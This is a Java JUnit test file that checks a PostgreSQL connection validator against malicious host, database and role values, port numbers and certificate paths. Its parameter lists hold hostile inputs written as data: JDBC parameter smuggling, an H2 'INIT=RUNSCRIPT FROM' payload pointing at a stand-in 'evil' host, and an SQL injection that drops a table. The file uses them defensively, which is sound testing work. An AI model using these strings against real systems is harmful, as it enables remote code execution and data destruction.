package org.ontodraft.persistence.store;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.ontodraft.persistence.store.PostgresServer.FieldProblem;
import org.ontodraft.persistence.store.PostgresServer.TlsMode;
import org.postgresql.ds.PGSimpleDataSource;

/** What people and attackers type into the fields of a connection. */
class PostgresServerTest {
  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        " ",
        "db.example.org?socketFactory=evil",
        "db.example.org/other",
        "db.example.org,evil.example.org",
        "db.example.org:5433",
        "db.example.org&loggerFile=/tmp/x",
        "db.example.org;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
        "INIT=CREATE ALIAS X AS $$ $$",
        "RUNSCRIPT FROM 'x'",
        "jdbc:postgresql://evil/x",
        "jdbc:h2:mem:x",
        "/var/run/postgresql",
        "/tmp/.s.PGSQL.5432",
        "@abstract",
        "db\nevil",
        "db\u0000",
        "db evil",
        "user:secret@db",
        "db#x",
        "db%2f",
        "[::1]",
        "-db",
        "db-",
        "\u202edb"
      })
  void aHostIsANameOrAnAddressAndNothingElse(String host) {
    assertThat(PostgresServer.problem(host, 5432, "plants", TlsMode.VERIFY_FULL, null))
        .contains(FieldProblem.HOST);
    assertThatThrownBy(() -> new PostgresServer(host, 5432, "plants", TlsMode.VERIFY_FULL, null))
        .isInstanceOf(IllegalArgumentException.class);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "plants?sslmode=disable",
        "plants&user=postgres",
        "plants/../x",
        "plants;INIT=x",
        "a b",
        "plants\n",
        "\u0000",
        "%00",
        "'; drop table x; --",
        "host=evil dbname=x",
        "-plants"
      })
  void aDatabaseAndARoleAreNames(String name) {
    assertThat(PostgresServer.problem("localhost", 5432, name, TlsMode.DISABLE, null))
        .contains(FieldProblem.DATABASE);
    assertThat(PostgresServer.isUser(name)).isFalse();
    PostgresServer server = new PostgresServer("localhost", 5432, "x", TlsMode.DISABLE, null);
    assertThatThrownBy(() -> server.dataSource(name, ""))
        .isInstanceOf(IllegalArgumentException.class);
  }

  @ParameterizedTest
  @ValueSource(ints = {0, -1, 65_536, Integer.MAX_VALUE})
  void aPortIsAPort(int port) {
    assertThat(PostgresServer.problem("localhost", port, "plants", TlsMode.DISABLE, null))
        .contains(FieldProblem.PORT);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"root.crt", "classpath:root.crt", "/missing/root.crt", "", "/tmp", "\u0000"})
  void aCertificateIsAFile(String file) {
    assertThat(PostgresServer.problem("localhost", 5432, "plants", TlsMode.VERIFY_FULL, file))
        .contains(FieldProblem.ROOT_CERTIFICATE);
  }

  @ParameterizedTest
  @CsvSource({
    "localhost, true",
    "127.0.0.1, true",
    "::1, true",
    "db.example.org, false",
    "10.0.0.1, false",
    "localhost.example.org, false",
    "127.0.0.1.example.org, false"
  })
  void withoutTlsOnlyThisComputer(String host, boolean allowed) {
    assertThat(PostgresServer.problem(host, 5432, "plants", TlsMode.DISABLE, null).isEmpty())
        .isEqualTo(allowed);
  }

  @Test
  void whatIsRightReachesTheDriverAsItIs(@TempDir Path folder) throws Exception {
    Path certificate = Files.writeString(folder.resolve("a ;&? root.crt"), "x");
    PGSimpleDataSource source =
        new PostgresServer(
                "db-1.example.org", 6432, "Pflanzen.ü", TlsMode.VERIFY_CA, certificate.toString())
            .dataSource("ada@tenant", "p&?w;\n");

    assertThat(source.getServerNames()).containsExactly("db-1.example.org");
    assertThat(source.getPortNumbers()).containsExactly(6432);
    assertThat(source.getDatabaseName()).isEqualTo("Pflanzen.ü");
    assertThat(source.getUser()).isEqualTo("ada@tenant");
    assertThat(source.getSslRootCert()).isEqualTo(certificate.toString());
    assertThat(source.getURL()).doesNotContain("p&?w").startsWith("jdbc:postgresql://db-1");
    assertThat(source.getSocketFactory()).isNull();
    assertThat(source.getLoggerFile()).isNull();
  }
}
